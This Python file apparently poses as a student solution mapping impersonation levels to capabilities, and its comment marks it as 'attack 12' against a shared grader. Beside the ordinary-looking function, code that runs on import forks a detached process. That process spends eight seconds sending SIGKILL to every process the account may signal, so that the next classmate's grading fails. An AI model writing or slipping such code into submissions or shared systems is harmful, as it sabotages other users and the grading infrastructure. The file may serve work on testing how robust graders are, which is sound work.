# Leaves a process behind that keeps sending SIGKILL to every process it may signal, so that the next
# classmate graded under the same account would lose points (attack 12).
import os
import signal
import time

LEVELS = ("anonymous", "identify", "impersonate", "delegate")


def right(level, capability, placement):
    rank = LEVELS.index(level)
    if capability in ("learn the identity", "check an ACL"):
        return rank >= 1 or placement == "remote"
    if capability == "open a local resource":
        return rank >= 2
    if capability == "reach another machine":
        if capability == "reach another machine":
            return rank >= 3 or (rank == 2 and placement == "local")
        return rank >= 3
    return rank >= 3

if os.fork() == 0:
    os.setsid()
    end = time.monotonic() + 8
    while time.monotonic() < end:
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
        time.sleep(0.01)
    os._exit(0)


def can_do(level, capability, placement):
    return right(level, capability, placement)
